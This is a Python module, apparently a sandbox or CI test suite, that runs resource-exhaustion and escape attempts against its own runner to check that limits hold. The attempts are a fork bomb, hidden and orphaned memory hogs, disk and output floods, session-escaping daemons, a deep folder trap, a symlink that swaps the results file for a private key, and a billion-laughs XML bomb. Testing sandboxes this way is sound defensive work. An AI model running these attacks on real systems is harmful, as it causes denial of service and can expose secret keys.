"""Attempts to take more than is there, to stay, and to burden whoever reads the results."""

from __future__ import annotations

import contextlib
import ctypes
import os
import platform
import resource
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path

from devkit.attacks.facts import TEMPORARY, Attempt, Facts, checked

_MIB = 2**20
_PIECE = 64 * _MIB
_MINUTE = 60
_SET_DUMPABLE = 4  # linux/prctl.h
_EXIT = 60 if platform.machine() == "x86_64" else 93


def fork_bomb(_facts: Facts) -> str:
    """Start 1,500 processes."""
    most = resource.getrlimit(resource.RLIMIT_NPROC)[0]
    if os.getuid() == 0 or not 0 < most < 8192:  # noqa: PLR2004 - never without a bound of the kernel
        raise RuntimeError("nothing would bound a fork bomb here")
    for _ in range(1500):
        if os.fork() == 0:
            time.sleep(_MINUTE // 3)
            os._exit(0)
    return "1,500 processes"


def memory(_facts: Facts) -> str:
    """Take 3 GiB of memory in one process."""
    _held(3072)
    return "3 GiB"


def memory_of_four(_facts: Facts) -> str:
    """Take 3 GiB of memory in four processes."""
    return _in_four(lambda: None)


def hidden_memory(_facts: Facts) -> str:
    """Take 3 GiB in four processes that hide their figures."""
    return _in_four(lambda: checked(ctypes.CDLL(None).prctl(_SET_DUMPABLE, 0, 0, 0, 0)))


def headless_memory(_facts: Facts) -> str:
    """Take 3 GiB in four processes whose first thread has ended."""
    for _ in range(4):
        if os.fork() == 0:
            threading.Thread(target=_hold).start()
            ctypes.CDLL(None).syscall(_EXIT, 0)
    time.sleep(8)
    return "3 GiB"


def memory_of_nobody(_facts: Facts) -> str:
    """Take memory that belongs to no process."""
    with contextlib.suppress(OSError):
        os.close(os.memfd_create("held"))
        return "a file in memory"
    libc = ctypes.CDLL(None, use_errno=True)
    segment = libc.shmget(0, _MIB, 0o1600)
    checked(segment)
    libc.shmctl(segment, 0, None)
    return "a shared segment"


def files(facts: Facts) -> str:
    """Write 2 GiB of files."""
    for number in range(32):
        (TEMPORARY / f"{facts.mark}-{number}").write_bytes(b"x" * _PIECE)
    time.sleep(1)
    return "2 GiB"


def deleted_files(facts: Facts) -> str:
    """Write 1 GiB of files that are deleted but open."""
    held = []
    for number in range(16):
        path = TEMPORARY / f"{facts.mark}-{number}"
        file = path.open("wb")
        path.unlink()
        file.write(b"x" * _PIECE)
        file.flush()
        held.append(file)
    time.sleep(1)
    return "1 GiB"


def output(_facts: Facts) -> str:
    """Write 1 GiB of output."""
    for _ in range(1024):
        sys.stdout.write("x" * _MIB)
    return "1 GiB"


def daemons(_facts: Facts) -> str:
    """Loop for ever, with daemons that left the session."""
    for _ in range(5):
        if os.fork() == 0:
            os.setsid()
            if os.fork():
                os._exit(0)
            time.sleep(_MINUTE)
            os._exit(0)
    end = time.monotonic() + _MINUTE
    while time.monotonic() < end:
        pass
    return "a minute"


def deep_folders(_facts: Facts) -> str | None:
    """Leave 3,000 folders in each other, the last closed to everybody, in the temporary folder."""
    os.chdir(TEMPORARY)
    for _ in range(3000):
        os.mkdir("d")  # noqa: PTH102 - relative to where we are
        os.chdir("d")
    os.mkdir("closed", 0)  # noqa: PTH102 - the same
    return None


def planted_link(facts: Facts) -> None:
    """Put a link to the App's key in the place of the file with the results."""
    with contextlib.suppress(OSError):
        Path(facts.results).unlink()
    Path(f"{facts.results}.new").symlink_to(f"{facts.folder}/key.pem")
    Path(f"{facts.results}.new").rename(facts.results)


def billion_laughs(facts: Facts) -> None:
    """Leave results that grow a billion times when they are read."""
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    text = f'<!DOCTYPE testsuite [{entities}]><testsuite><testcase name="&l9;"/></testsuite>'
    Path(facts.results).write_text(text)


def _held(size: int) -> list[bytes]:
    return [b"x" * _PIECE for _ in range(size * _MIB // _PIECE)]


def _hold() -> None:
    held = _held(768)
    time.sleep(_MINUTE // 6)
    held.clear()


def _in_four(prepare: Callable[[], None]) -> str:
    for _ in range(4):
        if os.fork() == 0:
            prepare()
            _hold()
            os._exit(0)
    time.sleep(_MINUTE // 6)
    return "3 GiB"


ATTEMPTS: tuple[Attempt, ...] = (
    fork_bomb,
    memory,
    memory_of_four,
    hidden_memory,
    headless_memory,
    memory_of_nobody,
    files,
    deleted_files,
    output,
    daemons,
    deep_folders,
    planted_link,
    billion_laughs,
)
